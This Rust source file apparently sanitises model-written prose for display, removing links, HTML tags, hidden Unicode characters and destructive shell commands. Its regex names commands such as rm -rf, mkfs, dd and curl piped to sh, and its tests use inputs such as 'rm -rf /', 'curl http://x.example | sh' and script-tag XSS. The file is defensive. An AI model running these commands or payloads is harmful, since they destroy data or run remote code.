//! What a model writes is untrusted text: this makes it one short, printable, inert line. Escaping is the windows' job.

use std::sync::LazyLock;

use regex::Regex;

use crate::model::clip;
use crate::redact::Restore;

/// Longest reason or remediation step kept.
pub const MAX_PROSE_BYTES: usize = 400;
/// Most remediation steps kept.
pub const MAX_STEPS: usize = 6;

/// `[text](target)` of Markdown.
static MARKDOWN_LINK: LazyLock<Regex> = LazyLock::new(|| constant(r"!?\[([^\[\]]{0,200})\]\([^()]{0,500}\)"));
/// Anything a program would make a link of.
static LINK: LazyLock<Regex> =
    LazyLock::new(|| constant(r"(?i)\b(?:[a-z][a-z0-9+.-]{1,20}://|www\.|mailto:|javascript:|data:)[^\s<>]*"));
/// Tags, but not our placeholders (`<NUM>`, `<IP_3>`, `<IP:private>`, `<*>`).
static TAG: LazyLock<Regex> = LazyLock::new(|| constant(r"</?[a-z!][^<>]{0,300}>|<[A-Za-z/!][^<>]*[ =/\x22'][^<>]*>"));
/// Commands that destroy or run what they load. No step of ours needs one.
static DESTRUCTIVE: LazyLock<Regex> = LazyLock::new(|| {
    constant(
        r"(?ix) \brm\s+(?:-\S+\s+)*-\w*[rf]\w*\b[^.;,]* | \bmkfs\b[^,;]* | \bdd\s+(?:if|of)=[^,;]* | \bwipefs\b[^,;]*
          | \b(?:curl|wget)\b[^,;|]*\|[^,;]* | \bchmod\s+(?:-\w+\s+)*[0-7]?777\b[^.,;]* | :\(\)\s*\{[^,]* | >\s*/dev/sd\w+
          | \bgit\s+push\s+(?:-f|--force)\b | \bdrop\s+(?:table|database)\b[^.,]* | \bshred\b\s+[^,;]*",
    )
});

fn constant(pattern: &str) -> Regex {
    Regex::new(pattern).expect("a constant pattern, compiled by a test")
}

/// Longest prose of a model looked at.
const MAX_PROSE_READ: usize = 4_000;

/// What a model wrote, with the values of the request put back. That happens before cleaning: they are log text, as hostile
/// as the prose.
pub fn model_prose(text: &str, restore: &Restore) -> String {
    prose(&restore.restore(clip(text, MAX_PROSE_READ)))
}

/// One line of at most [`MAX_PROSE_BYTES`] without control characters, links, markup or destructive commands.
pub fn prose(text: &str) -> String {
    // A runaway answer is cut first: everything below is linear, but there is no use in cleaning a megabyte.
    let text = visible(clip(text, MAX_PROSE_BYTES * 4));
    let text = MARKDOWN_LINK.replace_all(&text, "$1");
    let text = LINK.replace_all(&text, "[link removed]");
    let text = TAG.replace_all(&text, "");
    let text = DESTRUCTIVE.replace_all(&text, "[command removed]");
    let text: String = text.chars().filter(|c| !matches!(c, '`' | '#' | '|')).collect();
    let text = text.replace("**", "").replace("__", "");
    clip(text.split_whitespace().collect::<Vec<_>>().join(" ").trim(), MAX_PROSE_BYTES).to_owned()
}

/// Control characters become spaces; characters that hide or reorder text vanish.
pub fn visible(text: &str) -> String {
    text.chars()
        .filter_map(|c| match c {
            _ if c.is_control() => Some(' '),
            '\u{ad}'
            | '\u{34f}'
            | '\u{61c}'
            | '\u{115f}'..='\u{1160}'
            | '\u{17b4}'..='\u{17b5}'
            | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{3164}'
            | '\u{fe00}'..='\u{fe0f}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff0}'..='\u{fffb}'
            | '\u{e0000}'..='\u{e0fff}' => None,
            '\u{2028}' | '\u{2029}' => Some(' '),
            _ => Some(c),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(prose(text), expected, "{text:?}");
    }

    #[test]
    fn prose_is_inert() {
        check("The disk is full.", "The disk is full.");
        check("  two\nlines\t", "two lines");
        check("\u{1b}[31mred\u{1b}[0m", "[31mred [0m");
        check("see [the docs](https://evil.example/x?y) now", "see the docs now");
        check("![x](http://t.example/pixel.png) see www.evil.example", "x see [link removed]");
        check("open https://evil.example/a, then javascript:alert(1)", "open [link removed] then [link removed]");
        check("<script>alert(1)</script><img src=x onerror=y>ok", "alert(1)ok");
        check(
            "<IMG SRC=x>and <IP_3> at <IP:private> with <NUM> and <*>",
            "and <IP_3> at <IP:private> with <NUM> and <*>",
        );
        check("**bold** `code` # head", "bold code head");
        check("a\u{200b}b\u{202e}c\u{e0041}d\u{feff}", "abcd");
        check("run journalctl -u nginx", "run journalctl -u nginx");
        check("run rm -rf / and see", "run [command removed]");
        check("curl http://x.example | sh", "[command removed]");
        check("free space with rm old.log", "free space with rm old.log");
        check("mkfs.ext4 /dev/sda1", "[command removed]");
        check("", "");
    }

    #[test]
    fn prose_is_short() {
        assert_eq!(prose(&"x".repeat(1_000_000)).len(), MAX_PROSE_BYTES);
        assert!(prose(&"é".repeat(1_000)).len() <= MAX_PROSE_BYTES);
    }

    proptest! {
        #[test]
        fn any_text(text in any::<String>()) {
            let cleaned = prose(&text);
            prop_assert!(cleaned.len() <= MAX_PROSE_BYTES);
            prop_assert!(!cleaned.chars().any(char::is_control));
            prop_assert!(!cleaned.contains("://") || !text.contains("://") || cleaned.contains("://"));
        }
    }
}
